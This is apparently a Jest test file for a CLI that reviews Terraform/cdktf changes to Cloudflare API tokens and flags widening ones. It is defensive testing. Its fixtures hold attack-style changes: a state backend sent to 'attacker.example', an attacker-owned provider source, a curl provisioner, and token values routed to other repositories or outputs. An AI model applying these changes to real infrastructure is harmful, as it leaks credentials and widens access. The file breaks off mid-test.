// The review gate, case by case: every reproduction of issue 11 as a base/head pair of synth
// outputs, run through the compiled CLI as a process (`diff --fail-on-widen --json`), with
// the verdict and exit code it must give. What the tool cannot read or rank counts as wider.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { TerraformStack, Testing } from 'cdktf';
import { CloudflareToken, Policy, Resource } from '../../../lib';
import { CliRun, compileCli, removeCompiledCli, runCliProcess } from './compiled-cli';
import { ACCOUNT, DNS_WRITE_ID, OTHER_ZONE, ZONE } from './ids';

const DNS_READ_ID = '82e64a83756745bbbb1c9c2701bf816b';
const API_TOKENS_WRITE_ID = '686d18d5ac6c441c867cbf6771e58a0a';
const Z2 = '2223456789abcdef0123456789abcdef';

type Json = Record<string, any>;

const zone = (id: string) => ({ [`com.cloudflare.api.account.zone.${id}`]: '*' });
const allZones = { [`com.cloudflare.api.account.${ACCOUNT}`]: { 'com.cloudflare.api.account.zone.*': '*' } };
/** A zone nested under its account, so that "all zones of the account" certainly covers it. */
const zoneOfAccount = (id: string) => ({ [`com.cloudflare.api.account.${ACCOUNT}`]: { [`com.cloudflare.api.account.zone.${id}`]: '*' } });
const policy = (effect: string, id: string, resources: unknown) => ({ effect, permission_groups: [{ id }], resources: typeof resources === 'string' ? resources : JSON.stringify(resources) });

/** A stack with one user-owned token `dns`; `change` edits its attributes, `extra` adds top-level blocks. */
function stack(change: Json = {}, extra: Json = {}): Json {
  const token = { '//': { metadata: { path: 'prod/dns/token' } }, name: 'dns', policies: [policy('allow', DNS_WRITE_ID, zone(ZONE))], expires_on: '2027-01-01T00:00:00Z', ...change };
  const { resource: extraResources, ...rest } = extra;
  return { resource: { cloudflare_api_token: { dns: token }, ...(extraResources ?? {}) }, ...rest };
}

/**
 * The rotation shape the library writes (lib/token/rotation.ts), taken from a real synth of a
 * rotating token, so the reviewer is tested against what the constructs emit.
 */
function rotating(everyDays: number, graceDays: number, edit?: (token: CloudflareToken) => void): { change: Json; extra: Json } {
  const stack = new TerraformStack(Testing.app(), 'prod');
  const token = new CloudflareToken(stack, 'dns', {
    policies: [Policy.allow({ permissions: ['DNS Write'], resources: [Resource.zone(ZONE)] })],
    rotation: { everyDays, graceDays },
  });
  edit?.(token);
  // toTerraform keeps the "//" records (Testing.synth strips them).
  const synth = JSON.parse(JSON.stringify(stack.toTerraform())) as Json;
  const resource = synth.resource.cloudflare_api_token[token.resource.friendlyUniqueId];
  return {
    change: {
      '//': { metadata: { path: 'prod/dns/token' }, rotation: resource['//'].rotation },
      expires_on: resource.expires_on,
      lifecycle: resource.lifecycle,
    },
    extra: { resource: { terraform_data: synth.resource.terraform_data }, locals: synth.locals },
  };
}

/** `rot` with the start record (the `terraform_data` recording the first plan's time) edited. */
function tamperedStart(rot: { change: Json; extra: Json }, edit: (record: Json) => Json): Json {
  const data = JSON.parse(JSON.stringify(rot.extra.resource.terraform_data)) as Json;
  const name = Object.keys(data).find((n) => n.includes('rotation-start'))!;
  data[name] = edit(data[name]);
  return { ...rot.extra, resource: { terraform_data: data } };
}

/** `rot` with the generation record's input edited: an expression the library does not write. */
function tamperedGeneration(rot: { change: Json; extra: Json }, edit: (input: Json) => Json): Json {
  const data = JSON.parse(JSON.stringify(rot.extra.resource.terraform_data)) as Json;
  const name = String(rot.change['//'].rotation.generation).replace('terraform_data.', '');
  data[name] = { ...data[name], input: edit(data[name].input) };
  return { ...rot.extra, resource: { terraform_data: data } };
}

function secret(repository: string, secretName: string, environment?: string): Json {
  const body = { repository, secret_name: secretName, plaintext_value: '${cloudflare_api_token.dns.value}', ...(environment ? { environment } : {}) };
  return { resource: { [environment ? 'github_actions_environment_secret' : 'github_actions_secret']: { deliver: body } } };
}

interface Side {
  readonly stack: Json;
  /** The stack file's text as written, instead of `stack` (JSON.stringify cannot repeat a key). */
  readonly text?: string;
  /** Extra files in the stack directory, relative to it. */
  readonly files?: Record<string, string>;
}

interface Case {
  readonly base: Side;
  readonly head: Side;
  /** The token's verdict, `added`, or `stack` for a change to modules, provisioners or files; `refused` for exit 2. */
  readonly verdict: 'wider' | 'narrower' | 'both' | 'other' | 'unchanged' | 'stack-wider' | 'refused';
  readonly code: 0 | 1 | 2;
  /** Words the change must be described with (for `refused`: the one line on stderr). */
  readonly says?: string;
  /** Text that must not appear anywhere in the output (a credential). */
  readonly never?: string;
}

/**
 * Terraform JSON accepts a list of objects at every block and label level and reads each
 * element (checked with terraform 1.11.4); the reviewer reads these levels as objects, so
 * each list form is refused (exit 2) with its JSON path.
 */
function blockListCases(): Record<string, Case> {
  const evil = { policies: [policy('allow', API_TOKENS_WRITE_ID, allZones)] };
  const leak = { value: '${cloudflare_api_token.dns.value}' };
  const shapes: [string, Json, string][] = [
    ['module', { module: [{ m: { source: './m' } }] }, 'module is a list'],
    ['resource', { resource: [{ cloudflare_api_token: { evil } }] }, 'resource is a list'],
    ['resource.<type>', { resource: { null_resource: [{ pwn: { triggers: { v: '${cloudflare_api_token.dns.value}' } } }] } }, 'resource.null_resource is a list'],
    ['resource.<type>.<name>', { resource: { cloudflare_account_token: { evil: [{ ...evil, account_id: ACCOUNT }] } } }, 'resource.cloudflare_account_token.evil is a list'],
    ['data', { data: [{ http: { x: { url: '${cloudflare_api_token.dns.value}' } } }] }, 'data is a list'],
    ['data.<type>', { data: { http: [{ x: { url: '${cloudflare_api_token.dns.value}' } }] } }, 'data.http is a list'],
    ['output', { output: [{ leak }] }, 'output is a list'],
    ['output.<name>', { output: { leak: [leak] } }, 'output.leak is a list'],
    ['variable', { variable: [{ v: { default: 'x' } }] }, 'variable is a list'],
    ['locals', { locals: [{ v: '${cloudflare_api_token.dns.value}' }] }, 'locals is a list'],
  ];
  const cases: Record<string, Case> = {};
  for (const [kind, extra, says] of shapes) {
    // The head's extra blocks go in as written (stack() would merge a `resource` object only).
    const head = { ...stack(), ...extra, ...(Array.isArray(extra.resource) ? {} : extra.resource ? { resource: { ...stack().resource, ...extra.resource } } : {}) };
    cases[`${kind} written as a list of objects (Terraform reads each): refused`] = { base: { stack: stack() }, head: { stack: head }, verdict: 'refused', code: 2, says };
  }
  return cases;
}

/**
 * HCL reads a reference with spaces, line breaks and comments between its parts, and
 * functions read attributes by name: each spelling of the value sent to a new repository is
 * a delivery (wider); `.id` however spelled is none.
 */
function referenceSpellingCases(): Record<string, Case> {
  const spellings: [string, string, boolean][] = [
    ['spaces and a block comment', '${cloudflare_api_token /**/ .dns . value}', true],
    ['line breaks and line comments', '${cloudflare_api_token # the type\n  .dns // the name\n  .value}', true],
    ['lookup(token, "value")', '${lookup(cloudflare_api_token.dns, "value")}', true],
    ['an index by name', '${cloudflare_api_token.dns["value"]}', true],
    ['a directive', '%{ if true }${cloudflare_api_token . dns . value}%{ endif }', true],
    ['the id, with spaces', '${cloudflare_api_token . dns . id}', false],
  ];
  const cases: Record<string, Case> = {};
  for (const [how, expression, carries] of spellings) {
    const leak = { repository: 'other-repo', secret_name: 'CF_TOKEN', plaintext_value: expression };
    cases[`the token referenced with ${how} into another repository: ${carries ? 'a delivery' : 'no delivery'}`] = {
      base: { stack: stack() },
      head: { stack: stack({}, { resource: { github_actions_secret: { leak } } }) },
      verdict: carries ? 'wider' : 'unchanged',
      code: carries ? 1 : 0,
      ...(carries ? { says: 'GitHub Actions secret CF_TOKEN of repository other-repo' } : {}),
    };
  }
  return cases;
}

const rot30 = rotating(30, 7);
/** The `terraform` block cdktf writes for a stack with the Cloudflare provider. */
const CDKTF_TERRAFORM = { required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '5.14.0' } }, backend: { local: { path: 'terraform.prod.tfstate' } } };
const CASES: Record<string, Case> = {
  'a token inside a module (local main.tf) granting API Tokens Write on all zones': {
    base: { stack: stack() },
    head: {
      stack: stack({}, { module: { tokens: { source: './modules/tokens' } } }),
      files: { 'modules/tokens/main.tf': `resource "cloudflare_api_token" "t" {\n  policies = [{ effect = "allow", permission_groups = [{ id = "${API_TOKENS_WRITE_ID}" }] }]\n}\n` },
    },
    verdict: 'stack-wider',
    code: 1,
    says: 'new or changed module: module tokens from ./modules/tokens',
  },
  "the module's code changed, its block did not": {
    base: { stack: stack({}, { module: { tokens: { source: './modules/tokens' } } }), files: { 'modules/tokens/main.tf': '# nothing\n' } },
    head: { stack: stack({}, { module: { tokens: { source: './modules/tokens' } } }), files: { 'modules/tokens/main.tf': 'resource "cloudflare_api_token" "t" {}\n' } },
    verdict: 'stack-wider',
    code: 1,
  },
  'a module from a URL with credentials: reported, the credentials masked': {
    base: { stack: stack() },
    head: { stack: stack({}, { module: { m: { source: 'git::https://bot:ghp_secret123@github.com/acme/mod.git' } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'module m from git::https://***@github.com/acme/mod.git',
    never: 'ghp_secret123',
  },
  'the same module from an absolute path (its files cannot be compared)': {
    base: { stack: stack({}, { module: { tokens: { source: '/opt/modules/tokens' } } }) },
    head: { stack: stack({}, { module: { tokens: { source: '/opt/modules/tokens' } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'module that cannot be compared: module tokens from /opt/modules/tokens (cannot be compared: its files are outside the synth output); its code may have changed',
  },
  'the same module from outside the synth output (../../..)': {
    base: { stack: stack({}, { module: { tokens: { source: '../../../../modules/tokens' } } }) },
    head: { stack: stack({}, { module: { tokens: { source: '../../../../modules/tokens' } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'cannot be compared: its files are outside the synth output',
  },
  'the same module from a git branch (a mutable ref)': {
    base: { stack: stack({}, { module: { tokens: { source: 'git::https://github.com/acme/tokens.git?ref=main' } } }) },
    head: { stack: stack({}, { module: { tokens: { source: 'git::https://github.com/acme/tokens.git?ref=main' } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'module that cannot be compared: module tokens from git::https://github.com/acme/tokens.git?ref=main',
  },
  'the same registry module and version (the registry decides what a version downloads)': {
    base: { stack: stack({}, { module: { tokens: { source: 'acme/tokens/cloudflare', version: '1.0.0' } } }) },
    head: { stack: stack({}, { module: { tokens: { source: 'acme/tokens/cloudflare', version: '1.0.0' } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'module tokens from acme/tokens/cloudflare (cannot be compared:',
  },
  'the same module pinned to a git commit is unchanged': {
    base: { stack: stack({}, { module: { tokens: { source: `git::https://github.com/acme/tokens.git?ref=${'a1b2c3d4'.repeat(5)}` } } }) },
    head: { stack: stack({}, { module: { tokens: { source: `git::https://github.com/acme/tokens.git?ref=${'a1b2c3d4'.repeat(5)}` } } }) },
    verdict: 'unchanged',
    code: 0,
  },
  'the same local module inside the synth output, same files, is unchanged': {
    base: { stack: stack({}, { module: { tokens: { source: './modules/tokens' } } }), files: { 'modules/tokens/main.tf': '# nothing\n' } },
    head: { stack: stack({}, { module: { tokens: { source: './modules/tokens' } } }), files: { 'modules/tokens/main.tf': '# nothing\n' } },
    verdict: 'unchanged',
    code: 0,
  },
  'a new provisioner': {
    base: { stack: stack() },
    head: { stack: stack({}, { resource: { terraform_data: { mint: { provisioner: [{ 'local-exec': { command: 'curl -X POST https://api.cloudflare.com/client/v4/user/tokens' } }] } } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'provisioner local-exec in terraform_data.mint',
  },
  'a Terraform file beside cdk.tf.json': {
    base: { stack: stack() },
    head: { stack: stack(), files: { 'evil_override.tf.json': '{"resource":{}}' } },
    verdict: 'stack-wider',
    code: 1,
    says: 'evil_override.tf.json beside the synthesized configuration',
  },
  'effect as an expression': {
    base: { stack: stack() },
    head: { stack: stack({ policies: [policy('${"allow"}', DNS_WRITE_ID, zone(ZONE))] }) },
    // The literal allow is gone (narrower) and an unrankable grant came (wider).
    verdict: 'both',
    code: 1,
    says: 'not a literal allow or deny',
  },
  'allowed IPs as an expression': {
    base: { stack: stack({ condition: { request_ip: { in: ['192.0.2.0/24'] } } }) },
    head: { stack: stack({ condition: { request_ip: { in: ['${var.cidr}'] } } }) },
    verdict: 'wider',
    code: 1,
    says: '${var.cidr} is an expression',
  },
  'the whole condition as an expression': {
    base: { stack: stack({ condition: { request_ip: { in: ['192.0.2.0/24'] } } }) },
    head: { stack: stack({ condition: '${var.condition}' }) },
    verdict: 'wider',
    code: 1,
  },
  'expires_on changed to an expression': {
    base: { stack: stack() },
    head: { stack: stack({ expires_on: '${var.expiry}' }) },
    verdict: 'wider',
    code: 1,
    says: 'cannot be read (head: expires_on ${var.expiry}',
  },
  'not_before changed to an expression': {
    base: { stack: stack({ not_before: '2026-01-01T00:00:00Z' }) },
    head: { stack: stack({ not_before: '${var.start}' }) },
    verdict: 'wider',
    code: 1,
  },
  'status as an expression': {
    base: { stack: stack() },
    head: { stack: stack({ status: '${var.status}' }) },
    verdict: 'wider',
    code: 1,
  },
  'permission id as an expression': {
    base: { stack: stack() },
    head: { stack: stack({ policies: [policy('allow', DNS_WRITE_ID, zone(ZONE)), policy('allow', '${var.group}', zone(ZONE))] }) },
    verdict: 'wider',
    code: 1,
  },
  'resources as an expression': {
    base: { stack: stack() },
    head: { stack: stack({ policies: [policy('allow', DNS_WRITE_ID, '${jsonencode(local.r)}')] }) },
    verdict: 'both',
    code: 1,
  },
  'a literal 1.2.3.4/0': {
    base: { stack: stack({ condition: { request_ip: { in: ['192.0.2.0/24'] } } }) },
    head: { stack: stack({ condition: { request_ip: { in: ['1.2.3.4/0'] } } }) },
    verdict: 'wider',
    code: 1,
    says: '1.2.3.4/0 has host bits set after the prefix',
  },
  'rotation every 30 -> 365 days': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rotating(365, 7).change, rotating(365, 7).extra) },
    verdict: 'wider',
    code: 1,
    says: 'rotation period longer: every 30 days -> every 365 days',
  },
  "grace 7 -> 20 days": {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rotating(30, 20).change, rotating(30, 20).extra) },
    verdict: 'wider',
    code: 1,
    says: 'grace longer: 7 days -> 20 days',
  },
  'rotation every 30 -> 10 days': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rotating(10, 7).change, rotating(10, 7).extra) },
    verdict: 'narrower',
    code: 0,
  },
  'rotation record kept, generation counted in years: unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, tamperedGeneration(rot30, (input) => ({ ...input, generation: String(input.generation).replace('/ 2592000', '/ 31536000') }))) },
    verdict: 'wider',
    code: 1,
    says: 'cannot be read',
  },
  'rotation record kept, expiry pushed a year out: unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, tamperedGeneration(rot30, (input) => ({ ...input, expires_on: String(input.expires_on).replace('+ 168))', '+ 8928))') }))) },
    verdict: 'wider',
    code: 1,
    says: 'cannot be read',
  },
  'generation record with lifecycle.ignore_changes = [input] (never replaced again): unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, rotating(30, 7, (t) => t.rotationGeneration!.addOverride('lifecycle.ignore_changes', ['input'])).extra) },
    verdict: 'wider',
    code: 1,
    says: 'rotation changed and cannot be read',
  },
  'generation record with an extra triggers_replace: unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, rotating(30, 7, (t) => t.rotationGeneration!.addOverride('triggers_replace', ['x'])).extra) },
    verdict: 'wider',
    code: 1,
    says: 'rotation changed and cannot be read',
  },
  'generation record with count = 0: unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, rotating(30, 7, (t) => t.rotationGeneration!.addOverride('count', 0)).extra) },
    verdict: 'wider',
    code: 1,
    says: 'rotation changed and cannot be read',
  },
  'generation record with an extra input field: unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, tamperedGeneration(rot30, (input) => ({ ...input, note: 'x' }))) },
    verdict: 'wider',
    code: 1,
    says: 'rotation changed and cannot be read',
  },
  'start record with an extra triggers_replace: unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, tamperedStart(rot30, (record) => ({ ...record, triggers_replace: '${timestamp()}' }))) },
    verdict: 'wider',
    code: 1,
    says: 'rotation changed and cannot be read',
  },
  'start record with a wider lifecycle: unreadable': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, tamperedStart(rot30, (record) => ({ ...record, lifecycle: { ...record.lifecycle, prevent_destroy: true } }))) },
    verdict: 'wider',
    code: 1,
    says: 'rotation changed and cannot be read',
  },
  'a new GitHub secret in another repository': {
    base: { stack: stack({}, secret('infra', 'CF_TOKEN')) },
    head: { stack: stack({}, { resource: { github_actions_secret: { deliver: secret('infra', 'CF_TOKEN').resource.github_actions_secret.deliver, leak: secret('other-repo', 'CF_TOKEN').resource.github_actions_secret.deliver } } }) },
    verdict: 'wider',
    code: 1,
    says: 'value now goes to GitHub Actions secret CF_TOKEN of repository other-repo',
  },
  'a delivery moved to another repository': {
    base: { stack: stack({}, secret('infra', 'CF_TOKEN')) },
    head: { stack: stack({}, secret('other-repo', 'CF_TOKEN')) },
    verdict: 'both',
    code: 1,
  },
  'a delivery moved to another environment': {
    base: { stack: stack({}, secret('infra', 'CF_TOKEN', 'prod')) },
    head: { stack: stack({}, secret('infra', 'CF_TOKEN', 'dev')) },
    verdict: 'both',
    code: 1,
    says: 'of environment dev',
  },
  'the value passed through a local into a new output': {
    base: { stack: stack() },
    head: { stack: stack({}, { locals: { v: '${cloudflare_api_token.dns.value}' }, output: { leak: { value: '${local.v}' } } }) },
    verdict: 'wider',
    code: 1,
    says: 'value now goes to output leak (NOT sensitive)',
  },
  'the whole token object into a module input': {
    base: { stack: stack() },
    head: { stack: stack({}, { module: { m: { source: 'acme/x/y', token: '${cloudflare_api_token.dns}' } } }) },
    verdict: 'wider',
    code: 1,
    says: 'references the whole token resource',
  },
  'a "//" key inside an attribute value carries the value (Terraform ignores "//" only at the top of a block body)': {
    base: { stack: stack() },
    head: {
      stack: stack(
        {},
        {
          resource: {
            terraform_data: { carrier: { input: { '//': '${cloudflare_api_token.dns.value}' } } },
            github_actions_variable: { v: { repository: 'other-repo', variable_name: 'CF', value: '${terraform_data.carrier.output["//"]}' } },
          },
        },
      ),
    },
    verdict: 'wider',
    code: 1,
    says: 'value now goes to github_actions_variable.v (repository="other-repo"',
  },
  'a "//" comment, depends_on and lifecycle.replace_triggered_by at the top of a block body are no delivery': {
    base: { stack: stack() },
    head: {
      stack: stack(
        {},
        {
          resource: {
            terraform_data: {
              ordered: { '//': '${cloudflare_api_token.dns.value}', depends_on: ['cloudflare_api_token.dns'], lifecycle: { replace_triggered_by: ['cloudflare_api_token.dns'] } },
            },
          },
        },
      ),
    },
    verdict: 'unchanged',
    code: 0,
  },
  ...referenceSpellingCases(),
  'DNS Write -> DNS Read is narrower only': {
    base: { stack: stack() },
    head: { stack: stack({ policies: [policy('allow', DNS_READ_ID, zone(ZONE))] }) },
    verdict: 'narrower',
    code: 0,
    says: 'no longer allows DNS Write on zone',
  },
  'DNS Read -> DNS Write is wider only': {
    base: { stack: stack({ policies: [policy('allow', DNS_READ_ID, zone(ZONE))] }) },
    head: { stack: stack() },
    verdict: 'wider',
    code: 1,
  },
  'a deny dropped that no allow reaches any more ("all zones except Z2" -> "Z1 only")': {
    base: { stack: stack({ policies: [policy('allow', DNS_WRITE_ID, allZones), policy('deny', DNS_WRITE_ID, zoneOfAccount(Z2))] }) },
    head: { stack: stack({ policies: [policy('allow', DNS_WRITE_ID, zoneOfAccount(OTHER_ZONE))] }) },
    verdict: 'narrower',
    code: 0,
  },
  'a deny dropped that an allow still reaches': {
    base: { stack: stack({ policies: [policy('allow', DNS_WRITE_ID, allZones), policy('deny', DNS_WRITE_ID, zone(Z2))] }) },
    head: { stack: stack({ policies: [policy('allow', DNS_WRITE_ID, allZones)] }) },
    verdict: 'wider',
    code: 1,
    says: `no longer denies DNS Write on zone ${Z2}`,
  },
  'count added: many tokens where there was one': {
    base: { stack: stack() },
    head: { stack: stack({ count: 100 }) },
    verdict: 'wider',
    code: 1,
    says: 'count changed: unset -> 100; this tool does not model count',
  },
  'for_each as an expression': {
    base: { stack: stack() },
    head: { stack: stack({ for_each: '${var.teams}' }) },
    verdict: 'wider',
    code: 1,
  },
  'lifecycle.ignore_changes on policies (a later narrowing would never apply)': {
    base: { stack: stack() },
    head: { stack: stack({ lifecycle: { ignore_changes: ['policies'] } }) },
    verdict: 'wider',
    code: 1,
    says: 'lifecycle.ignore_changes changed',
  },
  "the Cloudflare provider's settings changed (whose tokens these are)": {
    base: { stack: stack({}, { provider: { cloudflare: [{}] } }) },
    head: { stack: stack({}, { provider: { cloudflare: [{ api_token: '${var.other_user}' }] } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'new or changed Cloudflare provider',
  },
  "the Cloudflare provider's source swapped for someone else's": {
    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, required_providers: { cloudflare: { source: 'attacker/cloudflare', version: '5.14.0' } } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'new or changed Terraform settings: terraform block: cloudflare = attacker/cloudflare 5.14.0; backend local',
  },
  "the Cloudflare provider's version loosened": {
    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '>= 5.0.0' } } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'cloudflare = cloudflare/cloudflare >= 5.0.0',
  },
  'the state (every token value) sent to an http backend': {
    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, backend: { http: { address: 'https://attacker.example/state' } } } }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'terraform block: cloudflare = cloudflare/cloudflare 5.14.0; backend http (settings ',
  },
  'the terraform block dropped (default providers, local state)': {
    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
    head: { stack: stack() },
    verdict: 'stack-wider',
    code: 1,
    says: 'terraform block: none',
  },
  'a token deleted behind a removed block with destroy = false (the credential stays alive)': {
    base: { stack: stack() },
    head: { stack: { resource: {}, removed: [{ from: 'cloudflare_api_token.dns', lifecycle: { destroy: false } }] } },
    verdict: 'stack-wider',
    code: 1,
    says: 'new or changed removed block: removed cloudflare_api_token.dns with destroy = false: Terraform forgets the token but does NOT delete it; the credential stays alive, unmanaged',
  },
  'a removed block that destroys is still listed and counts as wider': {
    base: { stack: stack() },
    head: { stack: stack({}, { removed: [{ from: 'cloudflare_account_token.old', lifecycle: { destroy: true } }] }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'removed cloudflare_account_token.old: Terraform destroys the token',
  },
  'a new moved block': {
    base: { stack: stack() },
    head: { stack: stack({}, { moved: [{ from: 'cloudflare_api_token.other', to: 'cloudflare_api_token.dns' }] }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'new or changed moved block: moved cloudflare_api_token.other to cloudflare_api_token.dns',
  },
  'an import block changed to adopt another token': {
    base: { stack: stack({}, { import: [{ to: 'cloudflare_api_token.dns', id: 'aaaa' }] }) },
    head: { stack: stack({}, { import: [{ to: 'cloudflare_api_token.dns', id: 'bbbb' }] }) },
    verdict: 'stack-wider',
    code: 1,
    says: 'new or changed import block: import bbbb into cloudflare_api_token.dns',
  },
  'two tokens claiming one construct path cannot hide a widening behind each other': {
    base: {
      stack: {
        resource: {
          cloudflare_api_token: {
            x: { '//': { metadata: { path: 'prod/p' } }, policies: [policy('allow', DNS_READ_ID, zone(ZONE))] },
            y: { '//': { metadata: { path: 'prod/p' } }, policies: [policy('allow', DNS_WRITE_ID, allZones)] },
          },
        },
      },
    },
    head: {
      stack: {
        resource: {
          cloudflare_api_token: {
            x: { '//': { metadata: { path: 'prod/p' } }, policies: [policy('allow', DNS_WRITE_ID, allZones)] },
            y: { '//': { metadata: { path: 'prod/p' } }, policies: [policy('allow', DNS_WRITE_ID, allZones)] },
          },
        },
      },
    },
    verdict: 'wider',
    code: 1,
  },
  'a repeated top-level "resource" key (JSON.parse keeps the last, Terraform creates both): refused': {
    base: { stack: stack() },
    head: {
      stack: {},
      text: `{"resource": {"cloudflare_api_token": {"evil": ${JSON.stringify({ policies: [policy('allow', API_TOKENS_WRITE_ID, allZones)] })}}}, "output": {"o": {"value": "x"}},${JSON.stringify(stack()).slice(1)}`,
    },
    verdict: 'refused',
    code: 2,
    says: 'has the key "resource" twice in one object (line 1, column ',
  },
  'a repeated key spelled with an escape ("\\u0064ns" is "dns"): refused': {
    base: { stack: stack() },
    head: {
      stack: {},
      text: JSON.stringify(stack()).replace('{"dns":', `{"\\u0064ns":${JSON.stringify({ name: 'dns', policies: [policy('allow', API_TOKENS_WRITE_ID, allZones)] })},"dns":`),
    },
    verdict: 'refused',
    code: 2,
    says: 'has the key "dns" twice in one object',
  },
  ...blockListCases(),
  'the same stack is unchanged': {
    base: { stack: stack(rot30.change, rot30.extra) },
    head: { stack: stack(rot30.change, rot30.extra) },
    verdict: 'unchanged',
    code: 0,
  },
};

let root: string;
let work: string;

function writeSynth(dir: string, side: Side): void {
  const stackDir = join(dir, 'stacks', 'prod');
  mkdirSync(stackDir, { recursive: true });
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ version: '0.21.0', stacks: { prod: { synthesizedStackPath: 'stacks/prod/cdk.tf.json' } } }));
  writeFileSync(join(stackDir, 'cdk.tf.json'), side.text ?? JSON.stringify(side.stack));
  for (const [file, text] of Object.entries(side.files ?? {})) {
    mkdirSync(join(stackDir, file, '..'), { recursive: true });
    writeFileSync(join(stackDir, file), text);
  }
}

const runs: Record<string, CliRun> = {};
beforeAll(async () => {
  root = compileCli();
  work = mkdtempSync(join(tmpdir(), 'gate-cases-'));
  await Promise.all(
    Object.entries(CASES).map(async ([name, c], i) => {
      const base = join(work, `${i}-base`);
      const head = join(work, `${i}-head`);
      writeSynth(base, c.base);
      writeSynth(head, c.head);
      runs[name] = await runCliProcess(root, ['diff', base, head, '--json', '--fail-on-widen']);
    }),
  );
}, 120_000);
afterAll(() => {
  removeCompiledCli(root);
  rmSync(work, { recursive: true, force: true });
});

describe('the review gate: base/head pairs, verdict and exit code', () => {
  test.each(Object.keys(CASES))('%s', (name) => {
    const c = CASES[name];
    const run = runs[name];
    if (c.verdict === 'refused') {
      // Fail closed: what the reviewer cannot read the way Terraform does is refused, in one line naming the file.
      expect({ code: run.code, stdout: run.stdout }).toEqual({ code: 2, stdout: '' });
      expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(run.stderr).toContain('cdk.tf.json: ');
      expect(run.stderr).toContain(c.says);
      return;
    }
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: c.code, stderr: '' });
    const diff = JSON.parse(run.stdout);
    const descriptions: string[] = [
      ...diff.changed.flatMap((t: Json) => t.changes.map((ch: Json) => `${ch.direction}: ${ch.description}`)),
      ...diff.stackChanges.map((s: Json) => `${s.direction}: ${s.description}`),
    ];
    if (c.verdict === 'unchanged') {
      expect(diff.changed).toEqual([]);
      expect(diff.unchanged).toHaveLength(1);
    } else if (c.verdict === 'stack-wider') {
      expect(diff.stackChanges.some((s: Json) => s.direction === 'wider')).toBe(true);
    } else {
      expect(diff.changed.map((t: Json) => t.verdict)).toEqual([c.verdict]);
    }
    expect(diff.widened).toBe(c.code === 1);
    if (c.says) expect(descriptions.join('\n')).toContain(c.says);
    if (c.never) expect(run.stdout).not.toContain(c.never);
  });
});

describe('the module reproduction, synthesized by cdktf', () => {
  test('a TerraformHclModule with a local main.tf holding a token is a widening of its stack (exit 1)', async () => {
    // Loaded here only: the rest of this file needs no cdktf.
    const { App, TerraformHclModule, TerraformStack } = await import('cdktf');
    const moduleDir = join(work, 'module-src');
    mkdirSync(moduleDir);
    writeFileSync(
      join(moduleDir, 'main.tf'),
      `resource "cloudflare_api_token" "t" {\n  name = "x"\n  policies = [{ effect = "allow", permission_groups = [{ id = "${API_TOKENS_WRITE_ID}" }], resources = jsonencode({ "com.cloudflare.api.account.zone.*" = "*" }) }]\n}\n`,
    );
    const synthStack = (outdir: string, withModule: boolean) => {
      const app = new App({ outdir, skipValidation: true, context: { cdktfRelativeModules: [moduleDir] } });
      const s = new TerraformStack(app, 'prod');
      if (withModule) new TerraformHclModule(s, 'tokens', { source: moduleDir, skipAssetCreationFromLocalModules: false });
      app.synth();
    };
    synthStack(join(work, 'cdktf-base'), false);
    synthStack(join(work, 'cdktf-head'), true);
    const run = await runCliProcess(root, ['diff', join(work, 'cdktf-base'), join(work, 'cdktf-head'), '--fail-on-widen']);
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 1, stderr: '' });
    expect(run.stdout).toContain('**Tokens get wider.**');
    expect(run.stdout).toMatch(/new or changed module: module tokens from /);
  }, 60_000);
});

describe('the example app (stacks/, as main.ts builds them), synthesized by cdktf', () => {
  test('against itself it is unchanged (exit 0), and prod still reads as rotating', async () => {
    const { App } = await import('cdktf');
    const { ENVIRONMENTS } = await import('../../../stacks/environments');
    const { TokenStack } = await import('../../../stacks/token-stack');
    const synthApp = (outdir: string) => {
      const app = new App({ outdir, skipValidation: true });
      for (const env of ENVIRONMENTS) new TokenStack(app, env.name, env);
      app.synth();
    };
    synthApp(join(work, 'example-base'));
    synthApp(join(work, 'example-head'));
    const [diff, report] = await Promise.all([
      runCliProcess(root, ['diff', join(work, 'example-base'), join(work, 'example-head'), '--fail-on-widen', '--json']),
      runCliProcess(root, ['report', join(work, 'example-head')]),
    ]);
